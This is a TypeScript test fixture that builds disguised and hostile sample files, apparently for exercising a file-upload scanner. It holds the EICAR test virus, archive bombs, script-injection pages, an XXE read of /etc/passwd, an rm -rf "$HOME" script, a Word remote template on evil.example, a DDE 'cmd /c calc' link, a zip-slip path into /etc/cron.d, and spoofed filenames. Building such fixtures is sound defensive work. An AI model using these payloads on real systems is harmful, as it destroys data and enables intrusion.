import { eicar, pdf } from '../sample-files.ts';
import { bombs, office, zip } from './archives.ts';

const page = '<!doctype html><html><body><script>alert(1)</script></body></html>';
const join = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part)));
const relation = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

/** Files that are not what their names say; each by what it is. */
export const disguised = (): Map<string, Buffer> =>
  new Map<string, Buffer>([
    ['the test virus', eicar()],
    ['the test virus in an archive', zip({ 'a.com': eicar() })],
    ['the test virus in an archive in an archive', zip({ 'a.zip': zip({ 'b.zip': zip({ 'a.com': eicar() }) }) }, true)],
    ['a page', Buffer.from(page)],
    ['a drawing with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    [
      'XML that reads other files',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ],
    ['a program for Windows', Buffer.from('MZ\x90\0'.padEnd(600, '\0'), 'latin1')],
    ['a program for Linux', Buffer.from('\x7fELF\x02\x01\x01'.padEnd(600, '\0'), 'latin1')],
    ['a shell script', Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n')],
    ['a GIF that is a script', Buffer.from('GIF89a=1;alert(1)')],
    [
      'an old Word file with macros',
      join(Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'AutoOpen Macros VBA'.padEnd(2000, '\0')),
    ],
    ['rich text with an object', Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}')],
    ['a Word file', office('docx')],
    ['a Word file with macros', office('docx', { 'word/vbaProject.bin': 'Attribut VB_Name' })],
    [
      'a Word file with a template elsewhere',
      office('docx', { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm') }),
    ],
    [
      'a Word file with an object in it',
      office('docx', { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
    ],
    ['an Excel file with a control', office('xlsx', { 'xl/activeX/activeX1.xml': '<ax:ocx/>' })],
    [
      'an Excel file with a link to a program',
      office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' }),
    ],
    ...Object.entries(bombs()).map(([kind, bytes]): [string, Buffer] => [`an archive that bursts: ${kind}`, bytes]),
    ['an archive that leaves its folder', zip({ '../../etc/cron.d/x': 'x' })],
    ['a page before a PDF', join(page, pdf())],
    ['a PDF that is an archive too', join(pdf(), zip({ 'a.js': 'alert(1)' }))],
    ['a PDF with a script behind it', join(pdf(), '<script>alert(1)</script>')],
    ['half a PDF', pdf().subarray(0, 120)],
  ]);

/** Good files under names that mislead. */
export const misleadingNames: readonly string[] = ['a.pdf.exe', 'trang.html', 'hoa-don\u202Efdp.exe', 'a.pdf%00.js'];
